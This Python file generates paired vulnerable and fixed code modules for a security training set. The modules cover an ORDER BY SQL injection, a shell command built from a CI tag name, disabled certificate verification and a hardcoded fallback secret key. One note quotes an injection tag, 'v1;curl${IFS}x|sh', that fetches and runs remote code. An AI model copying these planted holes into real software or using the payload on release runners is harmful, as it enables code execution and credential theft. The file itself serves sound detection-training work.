"""Train-only whole-module families weighted towards hard negatives (libs24 set, mod24s-*): ordinary library and
tooling modules written the way careful maintainers write them (list-form ``subprocess.run(..., check=True)`` of
fixed programs, parameterised SQL with ``yaml.safe_load`` fixtures, Jinja2 mail rendering with autoescape on, HTTP
client wrappers with timeouts and verification on, a mirror sync that resolves and contains paths, settings read
from the environment), each with one weak module whose single weak statement is subtle:

- mod24s-migrations-history-order-by-fstring (89): the migration ledger's history listing interpolates the
  dashboard's sort key into ``ORDER BY``; the fix maps it through an allow list.
- mod24s-release-publish-tag-shell (78): the release helper runs one step through a shell built from the CI tag
  name (git ref names may hold ``$``, ``;``, ``|``); the fix passes an argument list.
- mod24s-sdk-secondary-client-verify-off (295): one of the SDK wrapper's HTTP clients (uploads, token, downloads)
  turns certificate verification off; the fix leaves it on.
- mod24s-settings-secret-fallback-literal (798): the settings loader falls back to a literal secret key when the
  variable is missing; the fix refuses to start.

Written without reading the held-out or validation families; every family here goes to train.
"""
import scenarios.train_modules_safe_web as _web
from core import Spec
from registry import fam, hardneg
from scenarios.train_modules_safe_web import P

_STDLIB = _web._STDLIB | {"fnmatch", "glob", "io", "mimetypes", "platform", "posixpath", "queue", "shlex", "shutil",
                          "sqlite3", "ssl", "stat", "subprocess", "tempfile", "tomllib", "zlib", "email", "smtplib"}

_safe, _pair = _web.fix_builders(_STDLIB, lo=84, hi=150)


def _proj(c):
    return c.pick("tessera", "quillmark", "harbor", "lumen", "keel", "outpost", "pebble", "orchard", "sundial")


# ---------------- CWE-89: migration ledger; the history listing puts the sort key into ORDER BY ----------------

_MIG_DOCS = [
    "Schema migrations and fixtures for the $proj database: applies numbered .sql files once, records them in a\nledger table, and loads YAML fixtures for development and tests.",
    "Tiny migration runner for $proj (sqlite3). Migrations live in the package, fixtures are YAML files loaded\nwith yaml.safe_load; the ops dashboard shows the ledger through history().",
    "Migration ledger helpers used by the `$proj migrate` command and the ops dashboard.",
]


def _mig_kw(c):
    return dict(proj=_proj(c), log=c.pick("log", "logger"), table=c.pick("schema_migrations", "migration_ledger", "applied_migrations"),
                hist=c.pick("history", "applied_history", "list_applied"), status=c.pick("status_payload", "dashboard_rows", "ledger_view"))


def _mig_parts(c):
    direction = c.pick('direction = "DESC" if descending else "ASC"',
                       'direction = "DESC" if str(descending).lower() in {"1", "true", "desc"} else "ASC"')
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import pathlib", const='''
            MIGRATIONS_DIR = pathlib.Path(__file__).resolve().parent / "migrations"
            FIXTURES_DIR = pathlib.Path(__file__).resolve().parent / "fixtures"
            SORTABLE = {"version": "version", "name": "name", "applied": "applied_at", "applied_at": "applied_at"}
            PAGE_LIMIT = 200
        '''),
        P("ledger", rank=1, imp="import sqlite3", body='''
            def ensure_ledger(conn: sqlite3.Connection) -> None:
                """Create the ledger table on first use."""
                conn.execute(
                    "CREATE TABLE IF NOT EXISTS $table ("
                    "version TEXT PRIMARY KEY, name TEXT NOT NULL, checksum TEXT NOT NULL, applied_at TEXT NOT NULL)"
                )
        '''),
        P("history", rank=1, imp="import sqlite3", body='''
            def $hist(conn: sqlite3.Connection, sort: str = "applied_at", descending: bool = False) -> list[dict]:
                """Applied migrations, newest or oldest first, for the dashboard's ledger table."""
                ''' + direction + '''
                $FIX
                rows = conn.execute(sql, (PAGE_LIMIT,)).fetchall()
                return [dict(zip(("version", "name", "applied_at"), row)) for row in rows]
        '''),
        P("status", rank=2, imp="import sqlite3\nfrom typing import Mapping", body='''
            def $status(conn: sqlite3.Connection, query: Mapping[str, str]) -> dict:
                """JSON for the ops dashboard; ``query`` is the request's query string."""
                sort = query.get("sort", "applied_at")  #@S
                rows = $hist(conn, sort, descending=query.get("order") == "desc")
                return {"applied": rows, "pending": [p.stem for p in pending(conn)]}
        ''', needs=["pending"]),
    ]
    pool = [
        P("pending", rank=1, imp="import sqlite3\nimport pathlib", body='''
            def pending(conn: sqlite3.Connection) -> list[pathlib.Path]:
                """Migration files not yet in the ledger, in version order."""
                done = {row[0] for row in conn.execute("SELECT version FROM $table")}
                return [p for p in sorted(MIGRATIONS_DIR.glob("*.sql")) if p.stem.split("_", 1)[0] not in done]
        '''),
        P("apply", rank=2, imp="import datetime\nimport hashlib\nimport sqlite3", needs=["pending"], body='''
            def apply_pending(conn: sqlite3.Connection) -> int:
                """Run each pending migration in its own transaction and record it in the ledger."""
                count = 0
                for path in pending(conn):
                    script = path.read_text(encoding="utf-8")
                    version, _, name = path.stem.partition("_")
                    with conn:
                        conn.executescript(script)
                        conn.execute(
                            "INSERT INTO $table (version, name, checksum, applied_at) VALUES (?, ?, ?, ?)",
                            (version, name, hashlib.sha256(script.encode()).hexdigest(),
                             datetime.datetime.now(datetime.timezone.utc).isoformat()),
                        )
                    $log.info("applied migration %s (%s)", version, name)
                    count += 1
                return count
        '''),
        P("verify", rank=2, imp="import hashlib\nimport sqlite3", body='''
            def changed_since_applied(conn: sqlite3.Connection) -> list[str]:
                """Versions whose file no longer matches the recorded checksum."""
                changed = []
                for path in sorted(MIGRATIONS_DIR.glob("*.sql")):
                    version = path.stem.split("_", 1)[0]
                    row = conn.execute("SELECT checksum FROM $table WHERE version = ?", (version,)).fetchone()
                    if row and row[0] != hashlib.sha256(path.read_bytes()).hexdigest():
                        changed.append(version)
                return changed
        '''),
        P("fixtures", rank=2, imp="import re\nimport sqlite3\nimport yaml", const='IDENT_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_]{0,62}")', body='''
            def load_fixture(conn: sqlite3.Connection, name: str) -> int:
                """Insert the rows of fixtures/<name>.yaml; table and column names must be plain identifiers."""
                with open(FIXTURES_DIR / f"{name}.yaml", encoding="utf-8") as fh:
                    doc = yaml.safe_load(fh) or {}
                total = 0
                for table, rows in doc.items():
                    if not rows:
                        continue
                    cols = list(rows[0])
                    if not all(IDENT_RE.fullmatch(x) for x in [table, *cols]):
                        raise ValueError(f"bad identifier in fixture {name}")
                    marks = ", ".join("?" for _ in cols)
                    sql = f'INSERT INTO "{table}" ({", ".join(cols)}) VALUES ({marks})'
                    with conn:
                        conn.executemany(sql, [tuple(r.get(col) for col in cols) for r in rows])
                    total += len(rows)
                return total
        '''),
        P("forget", rank=2, imp="import sqlite3", body='''
            def forget(conn: sqlite3.Connection, version: str) -> bool:
                """Drop one ledger entry (after a manual rollback); the version is a bound parameter."""
                with conn:
                    cur = conn.execute("DELETE FROM $table WHERE version = ?", (version,))
                return cur.rowcount == 1
        '''),
        P("lookup", rank=2, imp="import sqlite3\nfrom typing import Optional", body='''
            def applied_at(conn: sqlite3.Connection, version: str) -> Optional[str]:
                row = conn.execute("SELECT applied_at FROM $table WHERE version = ?", (version,)).fetchone()
                return row[0] if row else None
        '''),
        P("connect", rank=1, imp="import os\nimport sqlite3", body='''
            def connect(path: str = "") -> sqlite3.Connection:
                """Open the database named by $PROJ_DB (or ``path``) with foreign keys on."""
                conn = sqlite3.connect(path or os.environ.get("$PROJ_DB", "$proj.sqlite3"))
                conn.execute("PRAGMA foreign_keys = ON")
                return conn
        '''),
    ]
    return core, pool


def _mig_fix(c):
    shape = c.pick("one", "concat")
    if shape == "one":
        return ('sql = f"SELECT version, name, applied_at FROM $table ORDER BY {sort} {direction} LIMIT ?"  #@V',
                'sql = f"SELECT version, name, applied_at FROM $table ORDER BY {SORTABLE.get(sort, \'applied_at\')} {direction} LIMIT ?"')
    return ('sql = "SELECT version, name, applied_at FROM $table" + f" ORDER BY {sort} {direction} LIMIT ?"  #@V',
            'sql = "SELECT version, name, applied_at FROM $table" + f" ORDER BY {SORTABLE.get(sort, \'applied_at\')} {direction} LIMIT ?"')


@fam("mod24s-migrations-history-order-by-fstring", "CWE-89", fws=["cli"], n=8, wrap=False)
def mod24s_mig(c):
    kw = _mig_kw(c)
    kw["PROJ"] = kw["proj"].upper()
    core, pool = _mig_parts(c)
    vfix, sfix = _mig_fix(c)
    v, s = _pair(c, c.pick(*_MIG_DOCS), '$log = logging.getLogger("$proj.migrations")', core, pool, kw, vfix, sfix)
    return Spec(v=v, s=s, full=True, fw="cli",
                notes="every value in the module is a bound parameter, but the ledger listing puts the dashboard's "
                      "sort key into ORDER BY with an f-string (identifiers cannot be bound), so sort=\"(SELECT ...)\" "
                      "or a CASE expression runs attacker SQL; the fix maps the key through the SORTABLE allow list")


@hardneg(12)
def mod24s_mig_hn(c):
    kw = _mig_kw(c)
    kw["PROJ"] = kw["proj"].upper()
    core, pool = _mig_parts(c)
    _, sfix = _mig_fix(c)
    code = _safe(c, c.pick(*_MIG_DOCS), '$log = logging.getLogger("$proj.migrations")', core, pool, kw, sfix)
    return Spec(s=code, full=True, fw="cli",
                notes="ORDER BY from an allow list, every value bound with ?, fixture identifiers validated, "
                      "yaml.safe_load, executescript of the package's own migration files: all safe")


# ---------------- CWE-78: release helper; one step runs through a shell built from the CI tag name ----------------

_REL_DOCS = [
    "Release helper run by CI on tag pushes: builds the distributions, writes checksums and publishes $proj.",
    "Publish a tagged release of $proj. Every external program is called with an argument list and check=True.",
    "CI release steps for $proj (build, verify, checksum, publish); invoked as `python -m tools.release`.",
]


def _rel_kw(c):
    proj = _proj(c)
    return dict(proj=proj, log=c.pick("log", "logger"), env=c.pick("GITHUB_REF_NAME", "CI_COMMIT_TAG", "RELEASE_TAG"),
                image=c.pick(f"ghcr.io/example/{proj}", f"registry.example.com/tools/{proj}"))


def _rel_parts(c):
    check = c.pick('if not tag.startswith("v"):', 'if not tag or tag[0] != "v":', 'if not tag.lower().startswith(("v", "release-")):')
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import pathlib", const='''
            ROOT = pathlib.Path(__file__).resolve().parents[1]
            DIST = ROOT / "dist"
            CHANGELOG = ROOT / "CHANGELOG.md"
        '''),
        P("tag", rank=1, imp="import os", body='''
            def release_tag() -> str:
                """The tag this pipeline was started for."""
                tag = os.environ.get("$env", "").strip()  #@S
                ''' + check + '''
                    raise SystemExit(f"not a release tag: {tag!r}")
                return tag
        '''),
        P("publish", rank=2, imp="import subprocess", body='''
            def publish(tag: str, notes: pathlib.Path) -> None:
                """Create the release for ``tag`` with the built files attached."""
                $log.info("publishing %s", tag)
                $FIX
        '''),
        P("build", rank=1, imp="import shutil\nimport subprocess\nimport sys", body='''
            def build() -> list[pathlib.Path]:
                """Fresh sdist and wheel in dist/ (fixed argument list, no shell)."""
                shutil.rmtree(DIST, ignore_errors=True)
                subprocess.run([sys.executable, "-m", "build", "--outdir", str(DIST)], check=True, cwd=ROOT)
                return sorted(DIST.iterdir())
        '''),
        P("main", rank=3, imp="import tempfile", body='''
            def main() -> int:
                logging.basicConfig(level=logging.INFO)
                tag = release_tag()
                files = build()
                with tempfile.TemporaryDirectory() as tmp:
                    notes = pathlib.Path(tmp) / "notes.md"
                    notes.write_text(release_notes(tag), encoding="utf-8")
                    publish(tag, notes)
                $log.info("released %s with %d files", tag, len(files))
                return 0


            if __name__ == "__main__":
                raise SystemExit(main())
        ''', needs=["notes"]),
    ]
    pool = [
        P("notes", rank=1, imp="import re", body='''
            def release_notes(tag: str) -> str:
                """The CHANGELOG section for ``tag`` (text between its heading and the next one)."""
                text = CHANGELOG.read_text(encoding="utf-8")
                m = re.search(rf"^## \\[?{re.escape(tag.lstrip('v'))}\\]?.*?$(.*?)(?=^## |\\Z)", text, re.M | re.S)
                return m.group(1).strip() if m else f"Release {tag}"
        '''),
        P("clean", rank=1, imp="import subprocess", body='''
            def ensure_clean_tree() -> None:
                """Refuse to release from a dirty checkout."""
                out = subprocess.run(["git", "status", "--porcelain"], cwd=ROOT, check=True,
                                     capture_output=True, text=True).stdout
                if out.strip():
                    raise SystemExit("working tree is not clean")
        '''),
        P("sums", rank=1, imp="import hashlib", body='''
            def write_checksums() -> pathlib.Path:
                """SHA256SUMS for the files in dist/, in the format `sha256sum -c` reads."""
                lines = [f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.name}" for p in sorted(DIST.iterdir()) if p.is_file()]
                out = DIST / "SHA256SUMS"
                out.write_text("\\n".join(lines) + "\\n", encoding="utf-8")
                return out
        '''),
        P("twine", rank=1, imp="import subprocess\nimport sys", body='''
            def check_dists() -> None:
                """Metadata check of the built files before anything is published."""
                files = [str(p) for p in sorted(DIST.glob("*")) if p.suffix in {".whl", ".gz"}]
                subprocess.run([sys.executable, "-m", "twine", "check", "--strict", *files], check=True)
        '''),
        P("headsha", rank=1, imp="import subprocess", body='''
            def tagged_commit(tag: str) -> str:
                """Commit the tag points at; ``--`` keeps the tag from being read as an option."""
                return subprocess.run(["git", "rev-list", "-n", "1", tag, "--"], cwd=ROOT, check=True,
                                      capture_output=True, text=True).stdout.strip()
        '''),
        P("showcmd", rank=1, imp="import shlex\nimport subprocess", body='''
            def run_logged(argv: list[str]) -> None:
                """Run one step, logging it as a copy-pasteable command line (shlex.join only formats it)."""
                $log.info("+ %s", shlex.join(argv))
                subprocess.run(argv, check=True, cwd=ROOT)
        '''),
    ]
    return core, pool


def _rel_fix(c):
    shape = c.pick("gh", "push", "docker")
    if shape == "gh":
        return ('subprocess.run(f"gh release create {tag} dist/* --title {tag} --notes-file {notes}", shell=True, check=True, cwd=ROOT)  #@V',
                'subprocess.run(["gh", "release", "create", tag, *map(str, sorted(DIST.glob("*"))), "--title", tag, "--notes-file", str(notes)], check=True, cwd=ROOT)')
    if shape == "push":
        return ('subprocess.run(f"git push origin refs/tags/{tag}", shell=True, check=True, cwd=ROOT)  #@V',
                'subprocess.run(["git", "push", "origin", f"refs/tags/{tag}"], check=True, cwd=ROOT)')
    return ('subprocess.run(f"docker buildx build --push -t $image:{tag} .", shell=True, check=True, cwd=ROOT)  #@V',
            'subprocess.run(["docker", "buildx", "build", "--push", "-t", f"$image:{tag}", "."], check=True, cwd=ROOT)')


@fam("mod24s-release-publish-tag-shell", "CWE-78", fws=["script"], n=8, wrap=False)
def mod24s_rel(c):
    kw = _rel_kw(c)
    core, pool = _rel_parts(c)
    vfix, sfix = _rel_fix(c)
    v, s = _pair(c, c.pick(*_REL_DOCS), '$log = logging.getLogger("$proj.release")', core, pool, kw, vfix, sfix)
    return Spec(v=v, s=s, full=True, fw="script",
                notes="every other step uses an argument list, but publish() formats the tag name into a shell command; "
                      "the tag comes from the CI environment and git ref names may contain $, {, }, ; and | (only "
                      "spaces and a few characters are forbidden), so a pushed tag like v1;curl${IFS}x|sh runs commands "
                      "on the release runner with its publishing credentials; the fix passes an argument list")


@hardneg(12)
def mod24s_rel_hn(c):
    kw = _rel_kw(c)
    core, pool = _rel_parts(c)
    _, sfix = _rel_fix(c)
    code = _safe(c, c.pick(*_REL_DOCS), '$log = logging.getLogger("$proj.release")', core, pool, kw, sfix)
    return Spec(s=code, full=True, fw="script",
                notes="subprocess.run with fixed argument lists and check=True, shlex.join only for the log line, "
                      "sha256 checksums, rmtree of the project's own dist folder: all safe")


# ---------------- CWE-295: SDK wrapper; one of its HTTP clients has verification off ----------------

_SDK_DOCS = [
    "Python client for the $api API: JSON calls, artifact uploads and downloads, with retries and timeouts.",
    "Thin SDK over httpx for $api. One client per host: the API, the upload endpoint and the token service.",
    "$Client: the supported Python wrapper of the $api REST API.",
]


def _sdk_kw(c):
    api = c.pick("billing", "catalog", "registry", "ledger", "assets", "telemetry")
    return dict(api=api, API=api.upper(), Client=api.capitalize() + c.pick("Client", "Api", "Session"),
                log=c.pick("log", "logger"), timeout=c.pick("10.0", "15.0", "30.0"),
                domain=c.pick("example.com", "example.net", "corp.example.org"), ver=c.pick("1.4.2", "2.0.1", "0.9.7"))


def _sdk_parts(c, which):
    lines = {
        "upload": ('self._api = httpx.Client(base_url=base_url, headers=headers, timeout=timeout)',
                   'self._uploads = httpx.Client(base_url=UPLOAD_URL, headers=headers, timeout=httpx.Timeout(timeout, write=120.0)$FIX'),
        "token": ('self._api = httpx.Client(base_url=base_url, headers=headers, timeout=timeout)',
                  'self._auth = httpx.Client(base_url=TOKEN_URL, timeout=timeout$FIX'),
        "download": ('self._api = httpx.Client(base_url=base_url, headers=headers, timeout=timeout)',
                     'self._cdn = httpx.Client(timeout=httpx.Timeout(timeout, read=60.0), follow_redirects=False$FIX'),
    }[which]
    first, second = c.pick(lines, lines[::-1])
    method = {
        "upload": '''
                def upload(self, name: str, data: bytes) -> dict:
                    """Store an artifact; the server checks the digest header."""
                    resp = self._uploads.put(f"/v1/objects/{quote(name, safe='')}", content=data,
                                             headers={"Digest": content_digest(data)})
                    resp.raise_for_status()
                    return resp.json()
        ''',
        "token": '''
                def exchange(self, client_id: str, client_secret: str) -> str:
                    """Client-credentials grant; returns a short-lived access token."""
                    resp = self._auth.post("/oauth/token", data={"grant_type": "client_credentials",
                                                                 "client_id": client_id, "client_secret": client_secret})
                    resp.raise_for_status()
                    return resp.json()["access_token"]
        ''',
        "download": '''
                def download(self, url: str, dest: str) -> int:
                    """Stream a signed artifact URL (from the API) to ``dest``; returns the byte count."""
                    size = 0
                    with self._cdn.stream("GET", url) as resp, open(dest, "wb") as fh:
                        resp.raise_for_status()
                        for chunk in resp.iter_bytes():
                            fh.write(chunk)
                            size += len(chunk)
                    return size
        ''',
    }[which]
    method = method.strip("\n").lstrip()
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os", const='''
            DEFAULT_BASE_URL = os.environ.get("$API_API_URL", "https://api.$domain/v2")
            UPLOAD_URL = os.environ.get("$API_UPLOAD_URL", "https://uploads.$domain")
            TOKEN_URL = os.environ.get("$API_TOKEN_URL", "https://auth.$domain")
            USER_AGENT = "$api-python/$ver"
            RETRY_STATUSES = frozenset({502, 503, 504})
        '''),
        P("error", rank=1, body='''
            class $ClientError(Exception):
                """A non-2xx answer from the $api API."""

                def __init__(self, status: int, detail: str) -> None:
                    super().__init__(f"$api API answered {status}: {detail[:200]}")
                    self.status = status
        '''),
        P("client", rank=2, body='''
            class $Client:
                """Holds one httpx client per host; use as a context manager so the pools are closed."""

                def __init__(self, token: str, base_url: str = DEFAULT_BASE_URL, timeout: float = $timeout) -> None:
                    headers = {"Authorization": f"Bearer {token}", "User-Agent": USER_AGENT}
                    ''' + first + '''
                    ''' + second + '''

                def __enter__(self) -> "$Client":
                    return self

                def __exit__(self, *exc) -> None:
                    self.close()

                def close(self) -> None:
                    for name in ("_api", "_uploads", "_auth", "_cdn"):
                        client = getattr(self, name, None)
                        if client is not None:
                            client.close()

                def _json(self, method: str, path: str, **kw) -> dict:
                    for attempt in range(4):
                        resp = self._api.request(method, path, **kw)
                        if resp.status_code not in RETRY_STATUSES:
                            break
                        time.sleep(backoff(attempt))
                    if resp.is_error:
                        raise $ClientError(resp.status_code, resp.text)
                    return resp.json()

                def get(self, path: str, **params) -> dict:
                    return self._json("GET", path, params=params)

                def create(self, path: str, payload: dict) -> dict:
                    return self._json("POST", path, json=payload)

                ''' + method + '''
        ''', imp="import httpx\nfrom urllib.parse import quote", needs=["backoff", "error", "etag"]),
        P("backoff", rank=1, imp="import random\nimport time", body='''
            def backoff(attempt: int) -> float:
                """Exponential backoff with full jitter (``random`` only spreads retries out)."""
                return random.uniform(0, min(20.0, 0.5 * 2 ** attempt))
        '''),
    ]
    pool = [
        P("etag", rank=1, imp="import hashlib", body='''
            def content_digest(data: bytes) -> str:
                """Digest sent as the upload's integrity header (sha256, checked by the server)."""
                return "sha-256=" + hashlib.sha256(data).hexdigest()
        '''),
        P("paginate", rank=1, imp="from typing import Iterator", body='''
            def iter_pages(client: "$Client", path: str, page_size: int = 100) -> Iterator[dict]:
                """Follow the API's cursor until it runs out."""
                cursor = None
                while True:
                    page = client.get(path, limit=page_size, **({"cursor": cursor} if cursor else {}))
                    yield from page.get("items", [])
                    cursor = page.get("next_cursor")
                    if not cursor:
                        return
        '''),
        P("fromenv", rank=1, imp="import os", body='''
            def from_env() -> "$Client":
                """Client configured from $API_TOKEN (required) and the optional URL variables."""
                token = os.environ.get("$API_TOKEN")
                if not token:
                    raise RuntimeError("$API_TOKEN is not set")
                return $Client(token)
        '''),
        P("idem", rank=1, imp="import uuid", body='''
            def idempotency_key() -> str:
                """Header value that lets the server drop retried POSTs."""
                return uuid.uuid4().hex
        '''),
    ]
    return core, pool


@fam("mod24s-sdk-secondary-client-verify-off", "CWE-295", fws=["sdk"], n=8, wrap=False)
def mod24s_sdk(c):
    kw = _sdk_kw(c)
    which = c.pick("upload", "token", "download")
    core, pool = _sdk_parts(c, which)
    v, s = _pair(c, c.pick(*_SDK_DOCS), '$log = logging.getLogger("$api_client")', core, pool, kw,
                 ", verify=False)  #@V", c.pick(")", ", verify=True)"))
    return Spec(v=v, s=s, full=True, fw="sdk",
                notes="the API client verifies certificates (httpx's default), but the second client is built with "
                      "verify=False, so anyone on the path can impersonate that host and read the bearer token or "
                      "the uploaded/downloaded data; the fix leaves verification on")


@hardneg(12)
def mod24s_sdk_hn(c):
    kw = _sdk_kw(c)
    core, pool = _sdk_parts(c, c.pick("upload", "token", "download"))
    code = _safe(c, c.pick(*_SDK_DOCS), '$log = logging.getLogger("$api_client")', core, pool, kw,
                 c.pick(")", ", verify=True)", ", trust_env=False)"))
    return Spec(s=code, full=True, fw="sdk",
                notes="httpx clients with timeouts and default certificate verification, random jitter for backoff, "
                      "uuid4 idempotency keys, sha256 content digests: all safe")


# ---------------- CWE-798: settings loader falls back to a literal secret key ----------------

_SET_DOCS = [
    "Runtime settings for $proj, read once from the environment (twelve-factor style).",
    "Typed settings of the $proj service. Values come from environment variables; nothing secret lives in the repo.",
    "Configuration for $proj: environment variables parsed into a frozen dataclass at start-up.",
]


def _set_kw(c):
    proj = _proj(c)
    return dict(proj=proj, PROJ=proj.upper(), log=c.pick("log", "logger"),
                lit=c.pick("dev-insecure-7c2f9a1e", "change-me-" + proj, "s3cr3t-" + proj + "-local", "9f8e7d6c5b4a39281706f5e4"))


def _set_parts(c):
    core = [
        P("logging", rank=0, imp="import logging"),
        P("helpers", rank=1, imp="import os", body='''
            def _flag(name: str, default: bool = False) -> bool:
                raw = os.environ.get(name)
                return default if raw is None else raw.strip().lower() in {"1", "true", "yes", "on"}


            def _int(name: str, default: int) -> int:
                raw = os.environ.get(name, "").strip()
                return int(raw) if raw else default


            def _list(name: str) -> tuple[str, ...]:
                return tuple(x.strip() for x in os.environ.get(name, "").split(",") if x.strip())
        '''),
        P("secret", rank=1, imp="import os", body='''
            def _secret_key() -> str:
                """Key for signing sessions and password-reset links."""
                secret_key = os.environ.get("$PROJ_SECRET_KEY", "").strip()
                if not secret_key:
                    $FIX
                return secret_key
        '''),
        P("settings", rank=2, imp="import os\nfrom dataclasses import dataclass, field", body='''
            @dataclass(frozen=True)
            class Settings:
                secret_key: str = field(repr=False)
                database_url: str = field(repr=False)
                debug: bool = False
                allowed_hosts: tuple[str, ...] = ()
                session_max_age: int = 1209600
                smtp_host: str = "localhost"

                @classmethod
                def from_env(cls) -> "Settings":
                    return cls(
                        secret_key=_secret_key(),
                        database_url=os.environ.get("DATABASE_URL", "sqlite:///$proj.db"),
                        debug=_flag("$PROJ_DEBUG"),
                        allowed_hosts=_list("$PROJ_ALLOWED_HOSTS") or ("localhost",),
                        session_max_age=_int("$PROJ_SESSION_MAX_AGE", 1209600),
                        smtp_host=os.environ.get("SMTP_HOST", "localhost"),
                    )
        '''),
        P("get", rank=3, imp="import functools", body='''
            @functools.lru_cache(maxsize=1)
            def get_settings() -> Settings:
                """The process-wide settings, parsed on first use."""
                settings = Settings.from_env()
                $log.info("settings loaded (debug=%s, hosts=%s)", settings.debug, ",".join(settings.allowed_hosts))
                return settings
        '''),
    ]
    pool = [
        P("redact", rank=2, imp="from urllib.parse import urlsplit, urlunsplit", body='''
            def redacted_url(url: str) -> str:
                """DATABASE_URL with the password masked, for logs and the /health page."""
                parts = urlsplit(url)
                if parts.password is None:
                    return url
                netloc = parts.netloc.replace(":" + parts.password + "@", ":***@", 1)
                return urlunsplit(parts._replace(netloc=netloc))
        '''),
        P("dotenv", rank=2, imp="import os\nimport pathlib", body='''
            def load_dotenv(path: str = ".env") -> int:
                """Copy KEY=VALUE lines of a local .env into the environment without overriding real variables."""
                env = pathlib.Path(path)
                if not env.is_file():
                    return 0
                count = 0
                for line in env.read_text(encoding="utf-8").splitlines():
                    key, sep, value = line.partition("=")
                    if sep and not key.lstrip().startswith("#"):
                        os.environ.setdefault(key.strip(), value.strip().strip("'\\""))
                        count += 1
                return count
        '''),
        P("secretfile", rank=2, imp="import os\nimport pathlib", body='''
            def read_secret_file(name: str) -> str:
                """Value of a Docker/Kubernetes secret mounted under /run/secrets, or the empty string."""
                path = pathlib.Path(os.environ.get("SECRETS_DIR", "/run/secrets")) / name
                return path.read_text(encoding="utf-8").strip() if path.is_file() else ""
        '''),
        P("cors", rank=2, body='''
            def cors_origins(settings: "Settings") -> list[str]:
                """Origins allowed by CORS: the https form of each allowed host, never a wildcard."""
                return [f"https://{host}" for host in settings.allowed_hosts if host != "*"]
        '''),
    ]
    return core, pool


def _set_sfix(c):
    return c.pick('raise RuntimeError("$PROJ_SECRET_KEY is not set; refusing to start with a default key")',
                  'raise SystemExit("$PROJ_SECRET_KEY must be set")',
                  'raise KeyError("$PROJ_SECRET_KEY")')


@fam("mod24s-settings-secret-fallback-literal", "CWE-798", fws=["script"], n=8, wrap=False)
def mod24s_set(c):
    kw = _set_kw(c)
    core, pool = _set_parts(c)
    v, s = _pair(c, c.pick(*_SET_DOCS), '$log = logging.getLogger("$proj.settings")', core, pool, kw,
                 'secret_key = "$lit"  #@V', _set_sfix(c))
    return Spec(v=v, s=s, full=True, fw="script",
                notes="everything else comes from the environment, but when the secret key variable is missing the "
                      "loader silently uses a literal committed to the repository, so a deployment that forgets the "
                      "variable signs sessions and reset links with a key anyone with the source knows; the fix "
                      "refuses to start")


@hardneg(12)
def mod24s_set_hn(c):
    kw = _set_kw(c)
    core, pool = _set_parts(c)
    code = _safe(c, c.pick(*_SET_DOCS), '$log = logging.getLogger("$proj.settings")', core, pool, kw,
                 _set_sfix(c))
    return Spec(s=code, full=True, fw="script",
                notes="the secret key is required from the environment (or a mounted secret file), the database "
                      "password is masked in logs, harmless defaults only for non-secret values: all safe")
